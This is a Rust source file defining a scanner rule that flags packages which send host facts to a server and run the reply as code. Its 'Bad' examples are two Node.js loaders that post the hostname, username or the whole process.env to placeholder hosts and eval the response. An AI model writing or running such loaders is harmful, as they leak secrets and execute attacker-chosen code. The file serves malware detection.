//! # A host is told who asks, and its answer is run
//!
//! One request carries facts of the machine or its environment, and what comes back is run as code or as a command.
//!
//! ## Why it matters
//!
//! The server chooses: analysts get an empty answer, chosen victims the payload.
//!
//! ## Known benign uses
//!
//! Services of licences and feature flags send an identity and get data, which is not run.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//!
//! const os = require("os");
//! const who = { host: os.hostname(), user: os.userInfo().username };
//! fetch("https://check.invalid/v3", { method: "POST", body: JSON.stringify(who) })
//!   .then((reply) => reply.json())
//!   .then((reply) => reply.token && eval(reply.token)); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//!
//! const axios = require("axios");
//! axios.post("https://ip.invalid/icons/108", { ...process.env }).then(({ data }) => {
//!   if (data.credits) new Function("require", data.credits)(require); //~ here
//! });
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//!
//! const os = require("os");
//! exports.flags = async (key) => {
//!   const reply = await fetch("https://flags.example/v1", { method: "POST", body: JSON.stringify({ key, host: os.hostname() }) });
//!   return (await reply.json()).flags;
//! };
//! ```
//!
//! ## References
//!
//! - Socket: HexEval and XORIndex loaders (June and July 2025)

use crate::prelude::*;

/// A host is told who asks, and its answer is run.
pub struct HostFactsAnsweredWithCode;

impl Rule for HostFactsAnsweredWithCode {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "host-facts-answered-with-code",
            title: "A host is told who asks, and its answer is run",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1480",
            covers: &["server-side-gating"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let tells = |source: &Source| match source {
            Source::HostFact | Source::Environment | Source::CommandOutput(_) => true,
            // A token says who pays, not which machine asks.
            Source::Variable(_) => !source.is_secret(),
            _ => false,
        };
        let acts = |sink: &Sink| matches!(sink, Sink::Code | Sink::Command(_));
        let told: Vec<&FlowFact> = facts.flows(tells, |sink| sink.host().is_some()).collect();
        for flow in facts.flows(|source| matches!(source, Source::Network(_)), acts) {
            let is_answer = |question: &&&FlowFact| question.sink_spot == flow.source_spot;
            if let Some(question) = told.iter().find(is_answer).filter(|_| flow.trigger.runs_unasked()) {
                let asked = (facts.locus(question.sink_spot), "tells a host about the machine");
                found.path(flow.trigger, &[asked, (facts.locus(flow.sink_spot), "runs the answer")]);
            }
        }
    }
}
